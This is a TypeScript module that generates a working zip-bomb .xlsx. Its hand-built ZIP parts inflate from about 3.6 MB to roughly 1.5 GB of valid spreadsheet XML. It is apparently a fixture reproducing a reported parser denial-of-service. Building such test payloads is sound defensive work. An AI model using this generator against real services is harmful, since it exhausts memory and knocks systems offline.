/**
 * A decompression bomb shaped as an .xlsx: a valid package whose worksheets and shared strings are
 * hundreds of megabytes of repeated, well-formed XML deflated at level 9, so the file is some
 * hundred times smaller than what it inflates to. Every size in it is honest: only the ratio gives it away.
 */
import zlib from 'node:zlib';

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

interface Part {
  name: string;
  method: 0 | 8;
  stored: Buffer;
  crc: number;
  size: number;
}

function storedPart(name: string, text: string): Part {
  const data = Buffer.from(text, 'utf8');
  return { name, method: 0, stored: data, crc: zlib.crc32(data), size: data.length };
}

/** head + unit repeated until about `bytes` + tail, deflated as a stream so it is never whole in memory. */
async function deflatedPart(name: string, head: string, unit: string, tail: string, bytes: number): Promise<Part> {
  const block = Buffer.from(unit.repeat(Math.ceil((1 << 20) / unit.length)), 'utf8');
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  let crc = 0;
  let size = 0;
  const write = (data: Buffer) => {
    crc = zlib.crc32(data, crc);
    size += data.length;
    deflate.write(data);
  };
  write(Buffer.from(head, 'utf8'));
  for (let i = 0; i < Math.ceil(bytes / block.length); i++) write(block);
  write(Buffer.from(tail, 'utf8'));
  deflate.end();
  await ended;
  return { name, method: 8, stored: Buffer.concat(out), crc, size };
}

function zipOfParts(parts: Part[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(part.method, 8);
    local.writeUInt32LE(part.crc, 14);
    local.writeUInt32LE(part.stored.length, 18);
    local.writeUInt32LE(part.size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(part.method, 10);
    central.writeUInt32LE(part.crc, 16);
    central.writeUInt32LE(part.stored.length, 20);
    central.writeUInt32LE(part.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, part.stored);
    centrals.push(central, name);
    offset += local.length + name.length + part.stored.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * Two worksheets and the shared strings, each inflating to about `partBytes`; the rest of the package
 * as Excel writes it. The default is the bomb of the report: three parts of 500 MB (from 3.6 MB here).
 */
export async function zipBombXlsx(partBytes = 500 * 1024 * 1024): Promise<Buffer> {
  const sheet = await deflatedPart(
    'xl/worksheets/sheet1.xml',
    `${XML_HEAD}<worksheet xmlns="${NS}"><sheetData>`,
    '<row><c t="s"><v>0</v></c></row>',
    '</sheetData></worksheet>',
    partBytes,
  );
  const strings = await deflatedPart(
    'xl/sharedStrings.xml',
    `${XML_HEAD}<sst xmlns="${NS}">`,
    '<si><t>Nguyễn Văn An</t></si>',
    '</sst>',
    partBytes,
  );
  return zipOfParts([
    storedPart(
      '[Content_Types].xml',
      `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
        '</Types>',
    ),
    storedPart(
      '_rels/.rels',
      `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    storedPart(
      'xl/workbook.xml',
      `${XML_HEAD}<workbook xmlns="${NS}" xmlns:r="${REL}"><sheets>` +
        '<sheet name="DanhSach" sheetId="1" r:id="rId1"/><sheet name="DanhSach2" sheetId="2" r:id="rId2"/>' +
        '</sheets></workbook>',
    ),
    storedPart(
      'xl/_rels/workbook.xml.rels',
      `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
        `<Relationship Id="rId2" Type="${REL}/worksheet" Target="worksheets/sheet2.xml"/>` +
        `<Relationship Id="rId3" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>` +
        '</Relationships>',
    ),
    sheet,
    // The same worksheet twice: a third part of the same size without deflating it again.
    { ...sheet, name: 'xl/worksheets/sheet2.xml' },
    strings,
  ]);
}
